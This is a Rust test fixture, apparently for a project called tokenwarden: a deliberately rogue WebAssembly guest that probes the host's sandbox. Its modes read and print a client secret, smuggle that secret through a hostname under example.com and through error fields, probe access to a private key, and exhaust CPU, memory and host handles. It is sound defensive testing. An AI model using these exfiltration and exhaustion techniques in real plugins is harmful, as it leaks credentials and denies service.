//! A misbehaving guest for tokenwarden's tests. It implements the `refresher` world and does
//! what the request's `scope` says:
//! `get:ROLE` reads a secret role, `set:ROLE` writes one, `loop` spins forever,
//! `grab-memory` allocates until it cannot, `trap` panics, `ok` succeeds without storing,
//! `http:URL` GETs a URL, `http-zero-timeout:URL` / `http-huge-timeout:URL` with extreme
//! request options, `header-flood:URL` with 10,000 headers, `header:NAME=VALUE:URL` with one
//! header, `handle-flood` creates host resources without end, `huge-secret` writes a 10 MB
//! token, `leak` prints the client secret and 100 KB more to stdout and stderr, `leak-error`
//! and `leak-outcome` put it in a host name, an error and the outcome, `steal-key` tries
//! every way to the job's private key and reports what each gave (with the one signature
//! it may have, base64url, in the outcome's scope).

// The error type is the contract's WIT variant; its size is not this guest's to choose.
#![allow(missing_docs, unsafe_code, clippy::result_large_err)]

use exports::tokenwarden::refresh::action::{self, Guest};
use tokenwarden::refresh::{secrets, signing};
use wasip2::http::outgoing_handler;
use wasip2::http::types::{ErrorCode, Fields, Method, OutgoingRequest, RequestOptions, Scheme};

wit_bindgen::generate!({
    path: "../../../wit",
    world: "tokenwarden:refresh/refresher",
    with: {
        "wasi:http/types@0.2.12": wasip2::http::types,
        "wasi:http/outgoing-handler@0.2.12": wasip2::http::outgoing_handler,
        "wasi:io/streams@0.2.12": wasip2::io::streams,
        "wasi:io/error@0.2.12": wasip2::io::error,
        "wasi:io/poll@0.2.12": wasip2::io::poll,
        "wasi:clocks/monotonic-clock@0.2.12": wasip2::clocks::monotonic_clock,
        "wasi:clocks/wall-clock@0.2.12": wasip2::clocks::wall_clock,
        "wasi:random/random@0.2.12": wasip2::random::random,
    },
});

struct Rogue;
export!(Rogue);

fn secret_error(e: secrets::Error) -> action::Error {
    match e {
        secrets::Error::AccessDenied(role) => action::Error::AccessDenied(role),
        secrets::Error::Unavailable(msg) => action::Error::SecretStore(msg),
    }
}

fn outcome(token_type: String) -> action::Outcome {
    action::Outcome {
        token_type,
        expires_in: None,
        expires_at: None,
        ext_expires_in: None,
        refresh_in: None,
        scope: None,
    }
}

#[derive(Clone, Copy)]
enum Timeouts {
    Default,
    Zero,
    Huge,
}

fn http_error(code: ErrorCode) -> action::Error {
    match code {
        ErrorCode::HttpRequestDenied | ErrorCode::DestinationIpProhibited => {
            action::Error::EgressDenied(format!("{code:?}"))
        }
        other => action::Error::Transport(format!("{other:?}")),
    }
}

fn http_get(
    url: &str,
    timeouts: Timeouts,
    entries: Vec<(String, Vec<u8>)>,
) -> Result<u16, action::Error> {
    let bad = |m: &str| action::Error::BadRequest(m.to_string());
    let (scheme, rest) = url.split_once("://").ok_or_else(|| bad("url"))?;
    let (authority, path) = match rest.find('/') {
        Some(i) => rest.split_at(i),
        None => (rest, "/"),
    };
    let fields = Fields::from_list(&entries).map_err(|e| bad(&format!("fields: {e:?}")))?;
    let req = OutgoingRequest::new(fields);
    req.set_method(&Method::Get).map_err(|_| bad("method"))?;
    let scheme = if scheme == "https" {
        Scheme::Https
    } else {
        Scheme::Http
    };
    req.set_scheme(Some(&scheme)).map_err(|_| bad("scheme"))?;
    req.set_authority(Some(authority))
        .map_err(|_| bad("authority"))?;
    req.set_path_with_query(Some(path))
        .map_err(|_| bad("path"))?;
    let options = match timeouts {
        Timeouts::Default => None,
        Timeouts::Zero | Timeouts::Huge => {
            let value = if matches!(timeouts, Timeouts::Zero) {
                0
            } else {
                u64::MAX
            };
            let o = RequestOptions::new();
            let _ = o.set_connect_timeout(Some(value));
            let _ = o.set_first_byte_timeout(Some(value));
            let _ = o.set_between_bytes_timeout(Some(value));
            Some(o)
        }
    };
    let pending = outgoing_handler::handle(req, options).map_err(http_error)?;
    pending.subscribe().block();
    match pending.get() {
        Some(Ok(Ok(resp))) => Ok(resp.status()),
        Some(Ok(Err(code))) => Err(http_error(code)),
        _ => Err(action::Error::Transport("no response".into())),
    }
}

fn url_mode<'a>(scope: &'a str, prefix: &str) -> Option<&'a str> {
    scope.strip_prefix(prefix)
}

impl Guest for Rogue {
    fn refresh(req: action::Request) -> Result<action::Outcome, action::Error> {
        let scope = req.scope;
        if let Some(role) = scope.strip_prefix("get:") {
            let value = secrets::get(role).map_err(secret_error)?;
            // Report only whether a value came back, never the value.
            return Ok(outcome(format!("got:{}", value.is_some())));
        }
        if let Some(role) = scope.strip_prefix("set:") {
            secrets::set(role, "written-by-rogue", None).map_err(secret_error)?;
            return Ok(outcome("set".into()));
        }
        let http = |url: &str, t, h| http_get(url, t, h).map(|s| outcome(format!("status:{s}")));
        if let Some(url) = url_mode(&scope, "http:") {
            return http(url, Timeouts::Default, vec![]);
        }
        if let Some(url) = url_mode(&scope, "http-zero-timeout:") {
            return http(url, Timeouts::Zero, vec![]);
        }
        if let Some(url) = url_mode(&scope, "http-huge-timeout:") {
            return http(url, Timeouts::Huge, vec![]);
        }
        if let Some(url) = url_mode(&scope, "header-flood:") {
            let flood = (0..10_000)
                .map(|i| (format!("x-flood-{i}"), vec![b'v'; 64]))
                .collect();
            return http(url, Timeouts::Default, flood);
        }
        if let Some(rest) = url_mode(&scope, "header:") {
            // `header:NAME=VALUE:URL`: one header the plugin should not be able to set.
            let (header, url) = rest.split_once(':').unwrap_or((rest, ""));
            let (name, value) = header.split_once('=').unwrap_or((header, ""));
            return http(url, Timeouts::Default, vec![(name.into(), value.into())]);
        }
        match scope.as_str() {
            "handle-flood" => {
                for _ in 0..1_000_000u32 {
                    std::mem::forget(Fields::new());
                }
                Ok(outcome("flooded".into()))
            }
            "huge-secret" => {
                let huge = "t".repeat(10 << 20);
                secrets::set("access-token", &huge, None).map_err(secret_error)?;
                Ok(outcome("stored-huge".into()))
            }
            "leak" => {
                let secret = secrets::get("client-secret")
                    .map_err(secret_error)?
                    .unwrap_or_default();
                println!("the client secret is {secret}");
                eprintln!("stderr also has {secret}");
                let filler = "x".repeat(1024);
                for _ in 0..100 {
                    println!("{filler}");
                    eprintln!("{filler}");
                }
                Ok(outcome("printed".into()))
            }
            "leak-error" => {
                // Tries to smuggle the secret out through a host name, an error and the outcome.
                let secret = secrets::get("client-secret")
                    .map_err(secret_error)?
                    .unwrap_or_default();
                let _ = http_get(
                    &format!("https://{secret}.example.com/"),
                    Timeouts::Default,
                    vec![],
                );
                Err(action::Error::Rejected(action::OauthError {
                    status: 400,
                    error: format!("invalid_{secret}"),
                    description: Some(format!("the secret is {secret}")),
                    error_codes: vec![],
                    trace_id: Some(secret.clone()),
                    correlation_id: None,
                }))
            }
            "leak-outcome" => {
                let secret = secrets::get("client-secret")
                    .map_err(secret_error)?
                    .unwrap_or_default();
                let mut o = outcome(secret.clone());
                o.scope = Some(secret);
                Ok(o)
            }
            "steal-key" => Ok(steal_key()),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "grab-memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut chunk = Vec::new();
                    if chunk.try_reserve_exact(1 << 20).is_err() {
                        return Err(action::Error::BadRequest(format!(
                            "allocation refused after {} MiB",
                            hoard.len()
                        )));
                    }
                    chunk.resize(1 << 20, 1u8);
                    hoard.push(chunk);
                }
            }
            "trap" => panic!("rogue guest panics on purpose"),
            "ok" => Ok(outcome("nothing-stored".into())),
            other => Err(action::Error::BadRequest(format!(
                "unknown rogue mode `{other}`"
            ))),
        }
    }
}

/// Every way a component could reach for the private key, each reported as what it gave.
fn steal_key() -> action::Outcome {
    fn said<T>(r: Result<T, signing::Error>) -> &'static str {
        match r {
            Ok(_) => "ok",
            Err(signing::Error::AccessDenied(_)) => "denied",
            Err(signing::Error::Unusable(_)) => "unusable",
            Err(signing::Error::Unavailable(_)) => "unavailable",
        }
    }
    let get = match secrets::get("private-key") {
        Ok(Some(_)) => "value",
        Ok(None) => "none",
        Err(secrets::Error::AccessDenied(_)) => "denied",
        Err(secrets::Error::Unavailable(_)) => "unavailable",
    };
    let cert_of_key = said(signing::certificate("private-key"));
    let sign_secret = said(signing::sign(
        "client-secret",
        signing::Algorithm::Ps256,
        b"x",
    ));
    let sign_token = said(signing::sign(
        "access-token",
        signing::Algorithm::Ps256,
        b"x",
    ));
    let huge = said(signing::sign(
        "private-key",
        signing::Algorithm::Ps256,
        &vec![b'x'; 64 * 1024 + 1],
    ));
    let wrong_alg = said(signing::sign(
        "private-key",
        signing::Algorithm::Es256,
        b"x",
    ));
    let signed = signing::sign("private-key", signing::Algorithm::Ps256, b"rogue");
    let mut o = outcome(format!(
        "get:{get} cert-of-key:{cert_of_key} sign-client-secret:{sign_secret} sign-access-token:{sign_token} huge:{huge} es256-with-rsa:{wrong_alg} sign:{}",
        said(signed.as_ref().map(|_| ()).map_err(Clone::clone))
    ));
    o.scope = signed.ok().map(|sig| {
        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let mut out = String::new();
        for chunk in sig.chunks(3) {
            let n = chunk
                .iter()
                .enumerate()
                .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
            for i in 0..=chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        out
    });
    o
}
